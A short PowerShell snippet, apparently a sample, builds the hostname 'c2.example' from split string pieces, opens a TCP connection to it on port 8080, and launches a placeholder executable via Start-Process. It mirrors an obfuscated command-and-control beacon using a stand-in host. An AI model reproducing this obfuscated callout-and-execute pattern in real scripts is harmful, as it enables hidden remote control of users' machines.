function Get-Part([int]$n, $parts = @('c2', 'example')) { return $parts[$n] }
$h = @{ port = 8080 }
$c = New-Object Net.Sockets.TcpClient(((Get-Part 0) + '.' + (Get-Part 1)), $h.port)
switch (2) { 1 { saps one.exe } 2 { saps two.exe } default { saps three.exe } }
